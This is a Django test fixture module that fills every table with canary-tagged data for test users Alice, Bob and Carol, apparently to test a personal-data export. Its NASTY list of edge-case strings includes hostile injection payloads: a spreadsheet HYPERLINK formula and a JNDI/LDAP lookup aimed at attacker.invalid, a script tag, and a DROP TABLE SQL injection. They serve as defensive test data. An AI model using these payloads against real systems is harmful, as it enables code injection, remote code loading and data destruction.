"""Alice the subject, Bob another subject, Carol staff without the right to; each with rows in every table."""

from __future__ import annotations

from dataclasses import dataclass
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Final

from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.db import transaction

from tests.testapp.models import (
    Assessment,
    Circle,
    Device,
    Handover,
    LegalOpinion,
    Loan,
    LoanLine,
    Member,
    Message,
    Payment,
    Report,
    Subscription,
    Tag,
    Tool,
    Visit,
)

if TYPE_CHECKING:
    from django.contrib.auth.base_user import AbstractBaseUser

NASTY: Final = (
    'O\'Brien said "hello", twice',
    "first line\nsecond line\r\nthird\tline",
    "back\\slash \\n \\N \\. \\u0041",
    "emoji \U0001f9d1\u200d\U0001f527 and \u4e2d\u6587 and a\u0301",
    "\u202eright to left\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    '=HYPERLINK("http://attacker.invalid";"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert('x')</script><b>&amp;</b>",
    "]]> --> {{ 7*7 }} {% debug %} ${jndi:ldap://attacker.invalid}",
    "'; DROP TABLE testapp_loan; --",
    "percent %s %(name)s %% and null-like NULL \\N nan",
    "controls \x01\x02\x1e\x1f\x7f",
    "line\u2028separator\u2029paragraph \ufeff bom",
    " leading and trailing ",
    "x" * 20_000,
)
"""Text that breaks what is carelessly quoted, split, rendered or escaped. No NUL: PostgreSQL stores none."""

PASSWORD: Final = "correct-horse-battery-staple-17"


@dataclass(frozen=True, kw_only=True)
class Person:
    """Somebody of the cast, and the texts that are to be found wherever that person's data is."""

    user: AbstractBaseUser
    name: str

    @property
    def pk(self) -> Any:
        """The person's key."""
        return self.user.pk

    @property
    def email(self) -> str:
        """The address the person logs in by."""
        return f"{self.name}@example.com"

    def canary(self, place: str) -> str:
        """A text that stands in one place only and names whom it belongs to."""
        return f"canary-{self.name}-{place}"


@dataclass(frozen=True, kw_only=True)
class Cast:
    """The people of a test."""

    alice: Person
    bob: Person
    carol: Person


def make_person(name: str, **flags: Any) -> Person:
    """Somebody with an account, whatever the user model is."""
    model = get_user_model()
    address = f"{name}@example.com"
    named = {model.USERNAME_FIELD: address, model.get_email_field_name(): address}
    user = model._default_manager.create_user(**named, password=PASSWORD, **flags)  # noqa: SLF001 - whatever the user model calls its manager.
    return Person(user=user, name=name)


@transaction.atomic
def make_cast() -> Cast:
    """Alice and Bob with rows in every table and messages to each other; Carol is staff and holds little."""
    cast = Cast(
        alice=make_person("alice"),
        bob=make_person("bob"),
        carol=make_person("carol", is_staff=True),
    )
    tool = Tool.objects.create(title="Ladder", price=Decimal("12.50"))
    circle = Circle.objects.create(title="Woodwork")
    for person, other in ((cast.alice, cast.bob), (cast.bob, cast.alice)):
        fill_membership(person)
        fill_loans(person, tool=tool)
        fill_talk(person, other=other, tool=tool)
        fill_devices(person)
        fill_opinions(person)
    circle.members.add(cast.alice.pk, cast.bob.pk)
    return cast


def fill_membership(person: Person) -> None:
    """The member's own row, with JSON and a file, and a newsletter subscription."""
    member = Member(
        user_id=person.pk,
        nickname=person.canary("nickname"),
        phone="+65 0000 0000",
        biography="\n".join((person.canary("biography"), *NASTY)),
        preferences={
            "colour": person.canary("preferences"),
            "nasty": list(NASTY),
            "deep": {"n": 1.5},
        },
        card_token=person.canary("card-token"),
    )
    member.portrait.save(
        "portrait.txt", ContentFile(person.canary("portrait").encode()), save=False
    )
    member.save()
    Subscription.objects.create(email=person.email, called=person.canary("called"))


def fill_loans(person: Person, *, tool: Tool, loans: int = 3) -> None:
    """Loans with lines, slips and tags, and one that was made as a guest with the same address."""
    own = [new_loan(person, tool=tool, number=one, borrower=person.pk) for one in range(loans)]
    guests = new_loan(person, tool=tool, number=loans, borrower=None)
    Loan.objects.bulk_create([*own, guests])
    LoanLine.objects.bulk_create(
        LoanLine(loan=loan, position=position, text=f"line {position}", amount=Decimal("1.10"))
        for loan in own
        for position in range(2)
    )
    Tag.objects.bulk_create(
        Tag(target=loan, text=person.canary(f"tag-{number}")) for number, loan in enumerate(own)
    )
    Payment.objects.create(
        payer_id=person.pk, payer_name=person.canary("payer"), amount=Decimal("99.90")
    )


def make_loan(person: Person, *, tool: Tool, number: int, borrower: Any) -> Loan:
    """One loan; without borrower it is a guest's, found by its address only."""
    loan = new_loan(person, tool=tool, number=number, borrower=borrower)
    loan.save()
    return loan


def new_loan(person: Person, *, tool: Tool, number: int, borrower: Any) -> Loan:
    """One loan with its file, which is not saved yet."""
    loan = Loan(
        borrower_id=borrower,
        tool=tool,
        code=person.canary(f"code-{number}"),
        contact_name=person.canary(f"contact-{number}"),
        contact_email=person.email,
        remarks=person.canary(f"remarks-{number}") + NASTY[number % len(NASTY)],
        locker_pin=f"pin-{number}",
        deposit=Decimal("20.00"),
    )
    loan.slip.save("slip.txt", ContentFile(person.canary(f"slip-{number}").encode()), save=False)
    return loan


def make_open_loan(code: str, name: str, email: str, **more: Any) -> Loan:
    """One loan of somebody who never had an account."""
    return Loan.objects.create(
        tool=Tool.objects.get(), code=code, contact_name=name, contact_email=email, **more
    )


def fill_talk(person: Person, *, other: Person, tool: Tool) -> None:
    """Messages to somebody else that name a third person, and a handover."""
    Message.objects.bulk_create(
        Message(
            sender_id=person.pk,
            recipient_id=other.pk,
            text=person.canary(f"message-{number}") + text,
            named_friend="Friend Nobody",
        )
        for number, text in enumerate(NASTY[:4])
    )
    Handover.objects.create(
        giver_id=person.pk,
        taker_id=other.pk,
        giver_remark=person.canary("gave"),
        taker_remark=other.canary("took"),
        tool=tool,
    )


def fill_devices(person: Person, *, visits: int = 3) -> None:
    """A device with a converted column, and visits that only its serial ties to the person."""
    serial = person.canary("serial")
    Device.objects.create(
        owner_id=person.pk, serial=serial, secret_note=person.canary("secret-note") + NASTY[3]
    )
    Visit.objects.bulk_create(
        Visit(serial=serial, ip=f"192.0.2.{number + 1}", user_agent=person.canary("agent"))
        for number in range(visits)
    )


def fill_opinions(person: Person) -> None:
    """What others think: reviewed before release, never released, and concealed."""
    Assessment.objects.create(
        about_id=person.pk, opinion=person.canary("opinion"), score=7, source_name="Rater Nobody"
    )
    LegalOpinion.objects.create(about_id=person.pk, advice=person.canary("advice"))
    Report.objects.bulk_create(
        Report(
            about_id=person.pk,
            authority="Example Authority",
            text=person.canary("concealed" if secret else "report"),
            secret=secret,
        )
        for secret in (False, True)
    )
